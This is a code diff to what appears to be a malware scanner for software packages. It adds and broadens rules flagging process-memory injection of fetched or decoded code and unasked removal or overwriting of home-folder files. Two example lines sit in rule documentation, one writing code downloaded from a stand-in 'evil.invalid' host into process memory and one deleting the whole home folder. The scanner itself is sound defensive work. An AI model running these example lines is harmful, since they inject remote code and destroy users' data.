@@ -1,4 +1,4 @@
-import { WHEN, isUnasked, type Combination } from './combination.js';
+import { WHEN, isPure, isUnasked, type Combination } from './combination.js';
 
 /** Kinds of file that Windows or a shell starts. */
 const PROGRAM = /\.(?:exe|scr|com|bat|cmd|vbs|vbe|ps1|hta|jse|wsf|msi)\b/i;
@@ -28,6 +28,24 @@ export const PROGRAM_COMBINATIONS: readonly Combination[] = [
       return isUnasked(reach) ? 'HIGH' : 'LOW';
     },
     message: ({ name, text, reach }) => `${name} runs the native code of ${text ?? 'a file'} ${WHEN[reach]}`,
+  },
+  {
+    doc: {
+      id: 'hidden-machine-code',
+      title: 'Puts machine code into memory that it fetches or decodes',
+      why: 'Code from the network or from behind an encoding, put straight into memory, is in no file that anybody could look at.',
+      remedy: 'Do not install the package.',
+      example:
+        'kernel32.WriteProcessMemory(process, place, urlopen("https://evil.invalid/x").read(), size, None)',
+      technique: 'T1055',
+    },
+    judge: ({ behaviour, labels, reach }) => {
+      if (behaviour !== 'writes-memory') return undefined;
+      if (labels.has('network') && isPure(labels)) return 'CRITICAL';
+      // Libraries that ask the processor what it can do keep a few bytes of their own in hexadecimal digits.
+      return isUnasked(reach) && (labels.has('network') || labels.has('decoded')) ? 'CRITICAL' : undefined;
+    },
+    message: ({ name, reach }) => `${name} puts fetched or decoded code into memory ${WHEN[reach]}`,
   },
   {
     doc: {
@@ -67,16 +85,19 @@ export const PROGRAM_COMBINATIONS: readonly Combination[] = [
   {
     doc: {
       id: 'files-destroyed',
-      title: 'Removes your files without being asked',
+      title: 'Removes or overwrites your files without being asked',
       why: 'No package has any business with all that is in a home folder or on a disk; a tree that is removed is gone.',
       remedy: 'Do not install the package.',
       example: 'shutil.rmtree(os.path.expanduser("~"))',
       technique: 'T1485',
     },
-    judge: ({ behaviour, reach, text }) =>
-      behaviour === 'removes-tree' && isUnasked(reach) && EVERYTHING.test(text ?? '')
-        ? 'CRITICAL'
-        : undefined,
-    message: ({ name, reach, text }) => `${name} removes ${text ?? 'your files'} ${WHEN[reach]}`,
+    judge: ({ behaviour, reach, text }) => {
+      if (!isUnasked(reach)) return undefined;
+      // Files below the home folder that a search came upon.
+      if (behaviour === 'overwrites') return 'CRITICAL';
+      return behaviour === 'removes-tree' && EVERYTHING.test(text ?? '') ? 'CRITICAL' : undefined;
+    },
+    message: ({ behaviour, name, reach, text }) =>
+      `${name} ${behaviour === 'overwrites' ? 'overwrites' : 'removes'} ${text ?? 'your files'} ${WHEN[reach]}`,
   },
 ];
